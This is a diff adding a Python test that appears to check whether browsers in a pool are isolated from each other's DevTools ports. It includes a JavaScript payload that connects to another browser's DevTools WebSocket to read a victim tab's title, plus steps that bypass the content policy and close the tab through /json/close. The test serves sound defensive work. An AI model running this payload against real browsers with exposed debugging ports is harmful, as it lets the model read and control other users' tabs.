@@ -1,0 +1,43 @@
+"""DevTools' own pages as stepping stones to another browser: who drives one may open and script them.
+
+Chromium refuses the origin of devtools:// itself where a socket is asked for, and what such a page may fetch is kept
+small by its content policy. The policy can be set aside by who drives it, and each DevTools port serves the same
+pages under its own origin, which it lets in.
+"""
+
+import json
+
+from browser_pool.spec import LaunchSpec
+from tests.attacks.conftest import Pools, page_of
+from tests.browser_pool.roads import OpenRoads
+
+BUNDLED = "devtools://devtools/bundled/inspector.html"
+VICTIM = "data:text/html,<title>a secret</title>"
+READ = """new Promise((done, fail) => {
+    const socket = new WebSocket("ws://%s");
+    const ask = {id: 1, method: "Runtime.evaluate", params: {expression: "document.title"}};
+    socket.onopen = () => socket.send(JSON.stringify(ask));
+    socket.onmessage = message => done(message.data);
+    socket.onerror = () => fail(new Error("no socket"));
+})"""
+
+
+async def test_a_devtools_page_reads_or_closes_another_ones_tab(pools: Pools, confined: bool) -> None:
+    async with pools(OpenRoads()) as pool, pool.lease(LaunchSpec()) as other, page_of(other) as theirs:
+        await theirs.open(VICTIM)
+        tab = next(target for target, url in other.pages.items() if url == VICTIM)
+        address = f"127.0.0.1:{other.port}"
+        socket = f"{address}/devtools/page/{tab}"
+        pool.roads = OpenRoads(address) if confined else None
+        async with pool.lease(LaunchSpec()) as mine, page_of(mine, proxyServer="direct://") as page:
+            await page.open(f"http://{address}/devtools/inspector.html?ws={socket}")
+            read = str(await page.run(READ % socket))
+            assert ("a secret" in read) is not confined, read
+
+            await page.send("Page.setBypassCSP", {"enabled": True})
+            await page.open(f"{BUNDLED}?ws={socket}")
+            assert "no socket" in str(await page.run(READ % socket)), "Chromium itself refuses it"
+            closing = json.dumps(f"http://{address}/json/close/{tab}")
+            await page.run(f"fetch({closing}, {{mode: 'no-cors'}})")
+            left = {info["targetId"] for info in await other.targets()}
+            assert (tab not in left) is not confined
